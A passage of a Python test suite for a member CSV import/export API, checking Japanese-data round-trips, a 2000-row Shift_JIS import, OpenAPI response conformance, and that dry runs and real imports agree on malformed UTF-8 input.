                      ja_row(unique_email("rt2"), name="髙橋 往復", name_kana="タカハシ",
                             phone="090-1234-5678", birthday="1980-01-02", postal_code="100-0001",
                             prefecture="東京都", address="千代田区1, 2", rank="premium",
                             tags=t + ";x" + t, note="一\n二", opt_in="いいえ"),
                      ja_row(unique_email("rt2"), name="往復 二", tags=t)])
    assert report_of(post_csv(client, data))["created"] == 2
    header, rows = read_export(client.get(EXPORT, params={"tag": t}))
    before = {x["会員ID"]: client.get("/v1/members/" + x["会員ID"]).json() for x in rows}
    keep = [h for h in header if h in JA_HEADER]
    assert keep == JA_HEADER
    again = excel_csv([keep] + [[x[h] for h in keep] for x in rows])
    body = report_of(post_csv(client, again))
    assert (body["rows"], body["unchanged"], body["created"], body["rejected"], body["errors"]) == \
        (2, 2, 0, 0, []), body
    for mid, m in before.items():
        after = client.get("/v1/members/" + mid).json()
        for k in ("email", "name", "name_kana", "phone", "birthday", "postal_code", "prefecture",
                  "address", "rank", "tags", "note"):
            assert after[k] == m[k], (k, m[k], after[k])
        assert after["marketing_consent"]["email_opt_in"] == m["marketing_consent"]["email_opt_in"] \
            if m["marketing_consent"] else after["marketing_consent"] is None


# ------------------------------------------------------------------ size

def test_two_thousand_rows_in_one_request(suite, client):
    t = tag()
    rows = [JA_HEADER]
    for i in range(2000):
        rows.append(ja_row("big-%s-%04d@example.com" % (t, i), name="髙橋 %d号" % i,
                           name_kana="タカハシ", phone="090-%04d-%04d" % (i, i),
                           prefecture="北海道", address="札幌市①-%d, 2F" % i, tags=t,
                           note="行%d\n続き" % i, opt_in="はい" if i % 2 else "いいえ"))
    data = excel_csv(rows)
    before = count(suite, "member.members")
    t0 = time.monotonic()
    body = report_of(post_csv(client, data, timeout=LONG))
    elapsed = time.monotonic() - t0
    assert (body["charset"], body["rows"], body["created"], body["rejected"]) == \
        ("cp932", 2000, 2000, 0), body
    assert count(suite, "member.members") == before + 2000
    assert count(suite, "member.member_tags", "tag = '%s'" % t) == 2000
    assert count(suite, "member.members", "lower(email) like 'big-%s-%%' and consent_opt_in" % t) == 1000
    assert elapsed < 30, elapsed
    r = client.get(EXPORT, params={"tag": t}, timeout=LONG)
    assert read_export(r)[1][1999]["氏名"] == "髙橋 1999号"


# ------------------------------------------------------------------ the document

def test_answers_match_openapi(spec, client, sessions):
    data = excel_csv([JA_HEADER, ja_row(unique_email("oa")), ja_row("bad-email")])
    for r in (post_csv(client, data, mode="partial"), post_csv(client, data, dry_run="true"),
              post_csv(client, data)):
        schema = response_schema(spec, "post", IMPORT, r.status_code, r.headers["Content-Type"])
        assert validate(spec, schema, r.json()) == [], r.text
    for r in (post_csv(client, data, content_type="application/json"),
              post_csv(sessions["support"], data), post_csv(client, data, mode="x")):
        schema = response_schema(spec, "post", IMPORT, r.status_code, r.headers["Content-Type"])
        assert validate(spec, schema, r.json()) == [], r.text
    r = client.get(EXPORT, params={"q": "nobody"})
    response_schema(spec, "get", EXPORT, 200, r.headers["Content-Type"])
    for r in (client.get(EXPORT, params={"limit": 1}), sessions["viewer"].get(EXPORT)):
        schema = response_schema(spec, "get", EXPORT, r.status_code, r.headers["Content-Type"])
        assert validate(spec, schema, r.json()) == [], r.text


def test_dry_run_and_import_agree_on_any_bytes(suite, client):
    """A property (issue 16): whatever bytes a cell holds — surrogates, code points past
    U+10FFFF, overlong forms, cut-off sequences, random bytes — the dry run and the real import
    give the same verdict, and neither answers 500. Not UTF-8 (RFC 3629) in a file with a BOM:
    both refuse the file."""
    rng = random.Random(16)
    pool = bytes(range(0x80, 0x100)) + b'ab,"\r\n\x00'
    cells = [b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe0\x80\xaf", b"\xc0\xaf", b"\xe9\xab"]
    cells += [bytes(rng.choice(pool) for _ in range(rng.randint(1, 6))) for _ in range(35)]
    for cell in cells:
        email = unique_email("bytes")
        data = BOM + b"email,name\r\n" + email.encode() + b"," + cell + b"\r\n"
        dry = post_csv(client, data, dry_run="true")
        assert dry.status_code == 200, (cell, dry.status_code, dry.text)
        report = dry.json()
        real = post_csv(client, data, dry_run="false")
        if report["errors"]:
            assert real.status_code == 422, (cell, report, real.status_code, real.text)
            assert not exists(suite, email), cell
        else:
            assert real.status_code == 200, (cell, report, real.status_code, real.text)
            assert (real.json()["created"], real.json()["rejected"]) == (report["created"], 0), cell
    # the named forms are each refused as no UTF-8 at all
    for cell in cells[:5]:
        data = BOM + b"email,name\r\n" + unique_email().encode() + b"," + cell + b"\r\n"
        report = post_csv(client, data, dry_run="true").json()
        assert [e["reason"] for e in report["errors"]] == [
            "the file is neither UTF-8 nor Shift_JIS (CP932) text"], (cell, report)
